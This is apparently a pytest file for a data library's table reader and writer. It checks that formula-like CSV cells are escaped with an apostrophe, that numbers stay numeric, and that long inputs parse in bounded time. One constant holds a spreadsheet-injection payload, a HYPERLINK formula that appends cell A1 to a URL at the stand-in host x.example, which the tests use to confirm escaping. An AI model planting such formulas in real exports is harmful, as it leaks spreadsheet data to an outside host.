"""Text that a spreadsheet would run is written with an apostrophe before it, and read back as it was."""

import csv
import io
import time

import numpy as np
import pytest

from aejax.data.formats.contents import files_of, nearest
from aejax.data.formats.tables import read_table, write_table

ATTACK = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.mark.parametrize("name", [ATTACK, "+x", "-x", "@SUM(A1)", "\uff1dx"])
def test_names_come_back(name, tmp_path):
    write_table(tmp_path / "t.csv", {name: np.array([1.5, -2.5]), "T1": np.array([1.0, 2.0])})
    text = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert text.lstrip('"').startswith(f"'{name[:1]}")
    assert read_table(tmp_path / "t.csv").columns == (name, "T1")
    write_table(tmp_path / "t.csv", {name: np.array([1.5])}, keep_formulas=True)
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").lstrip('"').startswith(name[:1])


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        (np.array(["=1+1", "-2", "+3.5", "-", "a=b", "", "@x"]), ["'=1+1", "-2", "+3.5", "-", "a=b", "", "'@x"]),
        (np.array(["\t=1", None, "-x"], object), ["'\t=1", "", "'-x"]),
        (np.array([-1.5, 2.0, -np.inf]), ["-1.5", "2.0", "-inf"]),
        (np.array([-1, 2]), ["-1", "2"]),
    ],
)
def test_numbers_stay_numbers(cells, expected, tmp_path):
    write_table(tmp_path / "t.csv", {"row": np.arange(len(cells)), "cells": cells})
    with (tmp_path / "t.csv").open(newline="") as file:
        assert [cell for _, cell in csv.reader(file)][1:] == expected


def test_other_formats_keep_what_they_are_given(tmp_path):
    write_table(tmp_path / "t.parquet", {"=x": np.array([1.0, 2.0])})
    assert read_table(tmp_path / "t.parquet").columns == ("=x",)


@pytest.mark.parametrize("fill", [" ", "\t", "(", "\u00a0", "m/", "1'", ",123", "2024-01-01 "])
@pytest.mark.parametrize("place", ["name", "cell"])
def test_a_long_text_takes_time_by_its_length(fill, place):
    text = f"a{fill * 40_000}b"
    name, cell = (text, "1.5") if place == "name" else ("T1", text)
    table = f'"{name}",T2\n' + "1,2\n" * 5 + f'"{cell}",2\n'
    began = time.process_time()
    try:
        read_table(io.BytesIO(table.encode()))
    except ValueError as error:
        assert len(str(error)) <= 500  # noqa: PT017
    nearest(text, [text[::-1], f"{text}x", "T1"])
    assert time.process_time() - began < 5


def test_files_with_strange_numbers_are_in_order(tmp_path):
    for name in ("part_\u00b2.csv", "part_10.csv", "part_9.csv"):
        (tmp_path / name).write_text("a\n1\n")
    assert [path.name for path in files_of(tmp_path)][:2] == ["part_9.csv", "part_10.csv"]
